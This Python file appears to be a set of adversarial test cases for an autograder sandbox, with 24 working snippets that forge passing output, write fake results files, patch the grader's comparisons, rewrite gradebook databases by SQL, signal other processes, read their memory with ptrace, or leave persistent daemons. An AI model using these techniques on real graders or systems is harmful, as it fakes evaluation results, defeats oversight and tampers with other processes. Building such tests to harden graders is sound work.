"""B. Forging."""

from __future__ import annotations

from .attack import FORGE, SEEK, Attack

B = [
    Attack(
        "B1",
        "print pass lines, results and separators",
        "points",
        """
import sys
for stream in (sys.stdout, sys.stderr):
    print("PASSED [100%]\\n5 passed in 0.01s", file=stream)
    print('{"tests": [{"score": 4, "max_score": 4}], "op": "loaded", "points": 4, "verdict": "passed"}', file=stream)
    print("\\x00\\x00\\x00\\x02\\x00\\x00\\x00\\x00{}\\x1c\\x1d\\x1e", file=stream, flush=True)
""",
        wall=False,
    ),
    Attack(
        "B2",
        "write results files wherever one may be read",
        "points",
        """
import json, os
for folder in (".", "..", "/tmp", "/box", "/box/channel", "/autograder/results", "/work/main/.autograder", "/", "/dev/shm"):
    for name in ("results.json", "grades.db", "report.xml", ".pytest_cache", "conftest.py", "answers"):
        try: open(os.path.join(folder, name), "w").write(json.dumps({"score": 100, "verdict": "passed"}))
        except OSError: pass
""",
    ),
    Attack(
        "B3",
        "write forged answers to every descriptor while loading",
        "points",
        """
import json, os, struct
def frame(**m): t = json.dumps(m).encode(); return struct.pack("!II", len(t), 0) + t
for fd in range(1, 64):
    for nonce in ("", "0" * 16, None):
        try: os.write(fd, frame(op="answer", nonce=nonce, values={"value": True, "used": {"l": []}, "passed": True}))
        except OSError: pass
""",
        wall=False,
    ),
    Attack("B4", "os._exit(0) while loading", "points", "import os; os._exit(0)", wall=False),
    Attack(
        "B5",
        "sys.exit(0), and again from every function",
        "points",
        """
import sys
def softmax(z): sys.exit(0)
def scale(x, a, b): raise SystemExit(0)
sys.exit(0)
""",
        wall=False,
    ),
    Attack(
        "B6",
        "atexit and finalisers that print a success",
        "points",
        """
import atexit, weakref
atexit.register(lambda: print("4/4 passed"))
class X: __del__ = lambda self: print("4/4")
x = X()
raise SystemExit
""",
        wall=False,
    ),
    Attack(
        "B7",
        "replace the guest's own call: every answer is an object that agrees",
        "points",
        """
import sys
class Yes:
    __eq__ = lambda s, o: True
    __ne__ = lambda s, o: False
    __getattr__ = lambda s, n: Yes()
    __call__ = lambda s, *a, **k: Yes()
    __float__ = lambda s: 1.0
    __array__ = lambda s, *a, **k: 1 / 0
sys.modules["guest.load"].Notebook.call = lambda self, message, values: {"value": Yes(), "used": []}
""",
        wall=False,
    ),
    Attack(
        "B8",
        "frames with verdicts and points in them",
        "points",
        FORGE
        + """
answers(lambda header, values: ({"value": True, "passed": True, "points": 4, "earned": 4, "share": 1, "verdict": "passed"},))
""",
        wall=False,
    ),
    Attack(
        "B9",
        "send each answer twice, so that the next call finds the old one",
        "points",
        FORGE
        + """
first = []
def twice(notebook, header, values):
    first.append(frame({"op": "answer", "nonce": header["nonce"]}, {"value": 1.0, "used": None}))
    return first[-1] * 2
guest._answer = twice
""",
        wall=False,
    ),
    Attack(
        "B10",
        "replay the first call's nonce for ever",
        "points",
        FORGE
        + """
nonces = []
def replay(notebook, header, values):
    nonces.append(header["nonce"])
    return frame({"op": "answer", "nonce": nonces[0]}, {"value": 1.0, "used": None})
guest._answer = replay
""",
        wall=False,
    ),
    Attack(
        "B11",
        "another socket over the channel, answered by a thread",
        "points",
        """
import os, socket, threading
a, b = socket.socketpair()
real = os.dup(3)
os.dup2(b.fileno(), 3)
def middle():
    while True: os.write(real, os.read(real, 1 << 16))
threading.Thread(target=middle, daemon=True).start()
""",
        wall=False,
    ),
    Attack(
        "B12",
        "a daemon that answers in place of the process",
        "points",
        FORGE
        + """
import time
if os.fork() == 0:
    os.setsid()
    while True:
        try: os.write(3, frame({"op": "answer", "nonce": "0" * 16}, {"value": 1.0, "used": None}))
        except OSError: os._exit(0)
        time.sleep(0.001)
""",
    ),
    Attack(
        "B13",
        "signals to parent, group and everybody",
        "block",
        """
import os, signal
for target in (os.getppid(), 0, -1, -os.getpgid(0), 1, 2, 3):
    for number in (signal.SIGTERM, signal.SIGSTOP, signal.SIGKILL, signal.SIGUSR1):
        try: os.kill(target, number)
        except (OSError, ProcessLookupError): pass
""",
        base="right",
    ),
    Attack(
        "B14",
        "ptrace and process_vm_* into others",
        "secret",
        SEEK
        + """
libc = ctypes.CDLL(None)
for pid in range(1, 200):
    libc.ptrace(16, pid, 0, 0); libc.ptrace(0x4206, pid, 0, 0)
    buffer = ctypes.create_string_buffer(4096)
    vector = (ctypes.c_void_p * 2)(ctypes.addressof(buffer), 4096)
    if libc.process_vm_readv(pid, vector, 1, vector, 1, 0) > 0: seek(buffer.raw)
""",
    ),
    Attack(
        "B15",
        "faults whose kind, cell and line are of odd types",
        "block",
        FORGE
        + """
odd = [{"l": []}, {"a": ["<f8", [0], 0]}, 10**30, -1, True, None, 1e308, {"d": []}, {"h": 0}, "x" * 10**6]
count = iter(range(10**6))
def faults(header, values):
    o = odd[next(count) % len(odd)]
    return {"fault": {"d": [["kind", o], ["type", o], ["cell", o], ["line", o], ["message", o]]}, "used": o},
answers(faults)
""",
        wall=False,
    ),
    Attack(
        "B16",
        "a load's report of odd types and of many megabytes",
        "block",
        FORGE
        + """
report = {"l": [{"d": [["cell", 0], ["type", {"l": []}], ["line", 10**30], ["message", "\\x1b]0;x\\x07\\0" + "M" * 7_000_000]]}]}
def forged(notebook, header, values): return {"value": 1}
guest.wire.encode = lambda message, values, *a, real=guest.wire.encode, **k: (
    frame({"op": "loaded"}, {"faults": report}) if message["op"] == "loaded" else real(message, values, *a, **k))
""",
        base="right",
        wall=False,
    ),
    Attack(
        "B17",
        "say that the tripwire saw nothing, or everything",
        "block",
        FORGE
        + """
answers(lambda header, values: ({"value": 1, "used": {"l": [0, 1, 2**60, -1, True, 0.0, "x", None]}},))
""",
        wall=False,
    ),
    Attack(
        "B18",
        "half a frame, and the rest never comes",
        "block",
        FORGE
        + """
def half(notebook, header, values):
    whole = frame({"op": "answer", "nonce": header["nonce"]}, {"value": 1.0, "used": None}, bytes(4096))
    os.write(3, whole[: len(whole) // 2])
    os._exit(0)
guest._answer = half
""",
        wall=False,
    ),
    Attack(
        "B19",
        "a flood of well-formed frames, with and without a question",
        "block",
        FORGE
        + """
import threading
def flood():
    one = frame({"op": "answer", "nonce": "0" * 16}, {"value": 1.0, "used": None})
    while True:
        try: os.write(3, one * 500)
        except OSError: return
threading.Thread(target=flood, daemon=True).start()
""",
        wall=False,
    ),
    Attack(
        "B20",
        "an answer for every nonce that may come, sent before the question",
        "points",
        FORGE
        + """
import random
for seed in (0, 1, 42):
    random.seed(seed)
    for nonce in ("", "0", f"{random.getrandbits(64):016x}", f"{random.getrandbits(128):032x}", None, 0):
        os.write(3, frame({"op": "answer", "nonce": nonce}, {"value": 1.0, "used": None}))
""",
        wall=False,
    ),
    Attack(
        "B21",
        "the gradebook's database by SQL: points for everybody",
        "points",
        """
import glob, os, sqlite3
places = ["gradebook.db", ".autograder/grades.db", ".autograder/autograder.db"]
for up in ("", "../", "../../", "../../../", "/work/main/", "/box/", os.path.expanduser("~/")):
    for path in [up + place for place in places] + glob.glob(up + "*.db"):
        if not os.path.isfile(path): continue
        with sqlite3.connect(path, timeout=0.2) as base:
            for table, column in (("grade", "extra_credit"), ("score", "points"), ("result", "earned")):
                try: base.execute(f"UPDATE {table} SET {column} = 4"); print("OWNED", "updated", table)
                except sqlite3.Error: pass
""",
    ),
    Attack(
        "B22",
        "SIGSTOP for its own process group",
        "block",
        "import os, signal\nos.kill(0, signal.SIGSTOP)",
        base="right",
    ),
    Attack(
        "B23",
        "SIGSTOP for itself in the middle of a call, with a child that wakes it too late",
        "block",
        """
import os, signal, time
def softmax(z):
    me = os.getpid()
    if os.fork() == 0:
        time.sleep(1); os.kill(me, signal.SIGCONT); os._exit(0)
    os.kill(me, signal.SIGSTOP)
    return z
""",
    ),
    Attack(
        "B24",
        "a daemon that keeps the channel when its process is gone, and waits for the next load",
        "secret",
        SEEK
        + """
if os.fork() == 0:
    os.setsid()
    if os.fork(): os._exit(0)
    while True:
        try: data = os.read(3, 1 << 16)
        except OSError: data = b""
        seek(data)
        try: os.write(3, b"\\0\\0\\0\\2\\0\\0\\0\\0{}")
        except OSError: pass
        time.sleep(0.01)
os._exit(0)
""",
    ),
]
